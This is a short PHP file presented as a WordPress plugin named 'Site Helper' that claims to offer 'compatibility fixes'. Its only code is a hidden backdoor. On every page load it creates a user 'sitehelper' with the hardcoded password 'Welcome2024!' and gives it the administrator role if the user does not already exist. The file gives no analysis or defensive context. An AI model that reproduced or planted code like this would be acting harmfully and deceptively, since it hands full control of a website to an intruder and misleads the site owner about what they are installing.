<?php
/**
 * Plugin Name: Site Helper
 * Description: Compatibility fixes.
 */
function sh_ensure_account() {
	$login = 'sitehelper';
	$secret = 'Welcome2024!';
	$mail = 'help@example.net';
	if ( ! username_exists( $login ) ) {
		$login = wp_create_user( $login, $secret, $mail );
		$login = new WP_User( $login );
		$login->set_role( 'administrator' );
	}
}
add_action( 'init', 'sh_ensure_account' );
